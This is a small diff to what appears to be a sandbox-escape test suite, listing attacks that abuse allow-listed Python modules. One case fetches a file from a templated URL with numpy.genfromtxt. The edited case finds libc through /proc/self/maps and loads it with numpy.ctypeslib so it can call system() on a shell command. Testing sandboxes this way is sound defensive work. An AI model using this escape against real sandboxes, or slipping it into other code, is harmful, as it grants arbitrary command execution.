@@ -1,4 +1,4 @@
-"""Owns the attacks through modules that an allow-list lets in: numpy, pandas, matplotlib, PIL, the library, IPython."""
+"""Owns the attacks through modules that an allow-list lets in: numpy, pandas, PIL, the library, IPython."""
 
 from __future__ import annotations
 
@@ -57,7 +57,8 @@ numpy.genfromtxt(T["url"] + "/x.csv")
 """),
     _ga("numpy-load-library", f"""
 import ctypes.util, numpy
-folder, name = os.path.split(next(line.split()[-1] for line in open("/proc/self/maps") if "libc.so" in line or "libc-" in line))
+paths = (line.split()[-1] for line in open("/proc/self/maps"))
+folder, name = os.path.split(next(path for path in paths if "libc.so" in path or "libc-" in path))
 numpy.ctypeslib.load_library(name, folder).system(({SHELL}).encode())
 """),
 )  # fmt: skip
